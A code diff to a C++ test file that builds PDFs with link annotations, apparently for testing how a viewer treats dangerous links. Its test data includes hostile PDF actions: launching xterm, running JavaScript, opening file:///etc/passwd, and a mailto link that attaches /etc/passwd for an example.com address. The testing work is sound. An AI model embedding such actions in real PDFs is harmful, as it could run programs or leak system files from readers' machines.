@@ -124,7 +124,9 @@ QByteArray TestPdfs::linked()
         {"Launch", "/A << /S /Launch /F (/usr/bin/xterm) >>"},
         {"Script", "/A << /S /JavaScript /JS (app.alert\\(1\\)) >>"},
         {"Local file", "/A << /S /URI /URI (file:///etc/passwd) >>"},
-        {"Other file", "/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"}};
+        {"Other file", "/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"},
+        {"Signed in site", "/A << /S /URI /URI (" + QByteArray(SignedInAddress) + ") >>"},
+        {"Mail", "/A << /S /URI /URI (mailto:x@example.com?attach=/etc/passwd&subject=Hi) >>"}};
     QByteArray contents = "BT /F1 24 Tf 72 720 Td (Contents) Tj ET\n";
     QByteArray annotations;
     for (int i = 0; i < links.size(); ++i) {
